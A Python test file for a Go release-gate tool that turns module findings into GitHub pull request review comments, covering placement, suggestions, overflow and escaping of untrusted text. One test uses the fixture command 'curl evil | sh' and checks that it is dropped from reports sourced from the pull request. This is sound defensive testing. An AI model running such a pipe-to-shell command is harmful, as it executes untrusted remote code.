"""What the review of a pull request says, and where."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given

from go_release_gate.adapters.github.pulls import PullFile
from go_release_gate.adapters.github.reviews import BODY_LIMIT
from go_release_gate.model.finding import Edit, Finding, Fix, Location, Related
from go_release_gate.model.severity import Severity
from go_release_gate.report.options import RenderOptions
from go_release_gate.report.placing import Placed, as_judged
from go_release_gate.report.review import MOST_COMMENTS, ReviewPlan, plan_review
from support.hostile import CORPUS, foreign
from support.markdown_marks import assert_only_our_marks, tokens
from support.reports import DOCS, finding

PATH = "services/api/go.mod"
LONG = "a" * 40
PATCH = "@@ -5,3 +5,4 @@ module m\n require (\n+\ta v1\n \tb v1\n+\tc v1\n@@ -90,1 +91,2 @@\n x\n+y"
FILES = {PATH: PullFile(PATH, LONG, PATCH, "modified"), "big.mod": PullFile("big.mod", LONG, None, "modified")}


def at(line: int | None, message: str = "untidy", path: str = PATH, **more: object) -> Finding:
    """A finding at a line."""
    return finding("untidy-module", message, location=Location(path, line), **more)


def plan(*findings: Finding, reported_by: str = "") -> ReviewPlan:
    """The review of findings that were judged on the head commit itself."""
    return plan_review(as_judged(findings), FILES, RenderOptions(reported_by=reported_by))


def test_only_lines_that_the_pull_request_shows_are_commented() -> None:
    """A line outside of the hunks, a file without a patch or not changed, a finding without a line: no comment."""
    there = at(6, "seen")
    made = plan(there, at(9), at(4), at(1, path="big.mod"), at(6, path="other/go.mod"), at(None))

    assert [(comment.path, comment.line, comment.start_line) for comment in made.comments] == [(PATH, 6, None)]
    assert made.fingerprints == {made.comments[0].mark: there.fingerprint}
    assert made.overflow == ""


def test_a_comment_says_what_why_and_what_to_run() -> None:
    """Severity, linked rule, message, at most three reasons and the command."""
    reasons = tuple(Related(f"reason {number}", Location("main.go", number)) for number in range(1, 6))
    body = plan(at(6, "not needed", related=reasons, command="go -C services/api mod tidy")).comments[0].body

    assert body.split("\n") == [
        f"❌ **error** [untidy-module]({DOCS}/untidy-module.md): not needed",
        "",
        "- why: reason 1 (`main.go:1`)",
        "- why: reason 2 (`main.go:2`)",
        "- why: reason 3 (`main.go:3`)",
        "- and 2 more reasons",
        "",
        "Run at the root of the repository:",
        "",
        "```sh",
        "go -C services/api mod tidy",
        "```",
    ]


def test_a_suggestion_stands_instead_of_the_command() -> None:
    """Its lines are the comment's lines, several with their first."""
    fix = Fix(True, (Edit(PATH, 6, 7, "\ta v2\n"),))
    (comment,) = plan(at(6, fix=fix, command="go mod tidy")).comments

    assert (comment.start_line, comment.line) == (6, 7)
    assert comment.body.endswith("\n\n```suggestion\n\ta v2\n```")
    assert "go mod tidy" not in comment.body


def test_of_overlapping_suggestions_one_is_given() -> None:
    """Findings of a file often share its fix: it is offered once, where it would change something."""
    fix = Fix(True, (Edit(PATH, 7, 7, "\tb v2\n"), Edit(PATH, 8, 8, "")))
    comments = plan(at(5, "one", fix=fix, command="run"), at(7, "two", fix=fix), at(8, "three", fix=fix)).comments

    assert ["```suggestion" in comment.body for comment in comments] == [False, True, False]
    assert [(comment.start_line, comment.line) for comment in comments] == [(None, 5), (7, 8), (None, 8)]
    assert "run" in comments[0].body


def test_suggestions_of_separate_lines_are_all_given() -> None:
    """What does not meet can be applied together."""
    fixes = [Fix(True, (Edit(PATH, line, line, "x\n"),)) for line in (6, 8)]

    comments = plan(*(at(fix.edits[0].start_line, str(fix), fix=fix) for fix in fixes)).comments

    assert all("```suggestion" in comment.body for comment in comments)


def test_a_finding_elsewhere_is_shown_where_its_fix_is() -> None:
    """A line that is lacking has no place of its own but the one where it belongs."""
    fix = Fix(True, (Edit(PATH, 9, 8, "\td v1\n"),))

    (comment,) = plan(at(1, fix=fix)).comments

    assert (comment.line, comment.body.partition("```")[2]) == (8, "suggestion\n\tc v1\n\td v1\n```")


def test_lines_that_moved_get_no_suggestion() -> None:
    """Where the head commit's file is another one, the comment stays and the command is given."""
    one = at(6, fix=Fix(True, (Edit(PATH, 6, 6, ""),)), command="go mod tidy")

    made = plan_review([Placed(one, 7, 7, is_exact=False)], FILES, RenderOptions())

    assert made.comments[0].line == 7
    assert "suggestion" not in made.comments[0].body
    assert "go mod tidy" in made.comments[0].body


def test_a_range_stays_inside_its_hunk() -> None:
    """Several lines are one comment where they are shown together, else their first line carries it."""
    ranges = [Placed(at(5, f"{end}"), 5, end) for end in (7, 91, 5)]

    comments = plan_review(ranges, FILES, RenderOptions()).comments

    assert [(comment.start_line, comment.line) for comment in comments] == [(5, 7), (None, 5), (None, 5)]


def test_forty_findings_are_thirty_comments_and_a_list() -> None:
    """The gravest thirty are comments; the rest stands in the review's body, with place, rule and message."""
    notes = [at(6, f"note {'x' * number}", severity=Severity.NOTE) for number in range(1, 21)]
    errors = [at(7, f"error {'x' * number}") for number in range(1, 21)]

    made = plan(*notes, *errors)

    assert len(made.comments) == MOST_COMMENTS == len(made.fingerprints)
    assert sum("**error**" in comment.body for comment in made.comments) == 20
    lines = made.overflow.split("\n")
    assert lines[0] == "10 more findings in changed lines:"
    assert len(lines) == 12
    assert all(line.startswith(f"- `{PATH}:6` 🔵 **note**") for line in lines[2:])


def test_a_list_too_long_is_cut_between_lines() -> None:
    """A body has at most 65536 characters; how much is left out is said."""
    made = plan(*(at(6, f"{number} {'word ' * 190}") for number in range(200)))

    assert BODY_LIMIT - 2_000 < len(made.overflow) < BODY_LIMIT - 50
    *lines, empty, last = made.overflow.split("\n")
    left = re.fullmatch(r"And (\d+) more findings: the JSON report holds all of them\.", last)
    assert empty == ""
    assert left is not None
    assert len(lines) - 2 + int(left[1]) == 170


def test_a_foreign_report_gives_no_orders() -> None:
    """What a pull request's own run reported: no suggestion, no command, no link, and who said it."""
    fix = Fix(True, (Edit(PATH, 6, 6, "\tevil v1\n"),))
    hostile = [at(6, f"m{number} {'x' * number}", fix=fix, command="curl evil | sh") for number in range(40)]

    made = plan(*hostile, reported_by="the pull request's run")

    for body in (*(comment.body for comment in made.comments), made.overflow):
        assert "Reported by the pull request's run, not verified." in body
        assert not any(word in body for word in ("evil", "suggestion", "https://", "Run at"))


def pages(text: str) -> list[str]:
    """A comment with a command, one with a suggestion, and a list, all about `text`."""
    said = at(6, text, related=(Related(text),) * 5, command=text)
    suggested = at(8, f"{text} 2", fix=Fix(True, (Edit(PATH, 8, 8, f"\ta v1 // {text}\n"),)))
    made = plan(said, suggested, *(at(6, f"{text} x{number}") for number in range(30)))
    told = plan(said, reported_by=text or "harmless")
    return [*(comment.body for comment in (*made.comments[:2], *told.comments)), made.overflow]


@pytest.mark.parametrize("text", CORPUS, ids=lambda text: repr(text[:30]))
def test_foreign_text_stays_text(text: str) -> None:
    """No message, reason, command or line ends our blocks, mentions anybody or passes for a marker or a suggestion."""
    for page, benign in zip(pages(text), pages("harmless"), strict=True):
        assert_only_our_marks(page, benign)
        assert "<!--" not in page
        assert len(page) < BODY_LIMIT
        suggestions = [token for token in tokens(page) if token.type == "fence" and token.info == "suggestion"]
        assert all(token.content == f"\ta v1 // {text}\n" for token in suggestions)


@given(foreign())
def test_no_text_gives_a_mark(text: str) -> None:
    """The same for texts made of the pieces that Markdown is made of."""
    for page, benign in zip(pages(text), pages("harmless"), strict=True):
        assert_only_our_marks(page, benign)
        suggestions = [token for token in tokens(page) if token.type == "fence" and token.info == "suggestion"]
        assert all(token.content == f"\ta v1 // {text}\n" for token in suggestions)


def test_the_mark_is_the_findings_own() -> None:
    """Moved lines keep it; another finding, message or suggestion has another."""
    base = at(6, "unused: imported by main.go:7", key="k")
    moved = replace(base, location=Location(PATH, 7), message="unused: imported by main.go:9")
    others = [
        replace(base, key="other"),
        replace(base, message="unused: imported by other.go:7"),
        replace(base, severity=Severity.WARNING),
        replace(base, fix=Fix(True, (Edit(PATH, 6, 6, ""),))),
        replace(base, fix=Fix(True, (Edit(PATH, 6, 6, "x\n"),))),
    ]

    marks = [plan(one).comments[0].mark for one in (base, moved, *others)]

    assert marks[0] == marks[1]
    assert len(set(marks)) == 1 + len(others)


def test_the_same_finding_is_said_once() -> None:
    """Two findings that nobody could tell apart are one comment."""
    assert len(plan(at(6), at(6)).comments) == 1
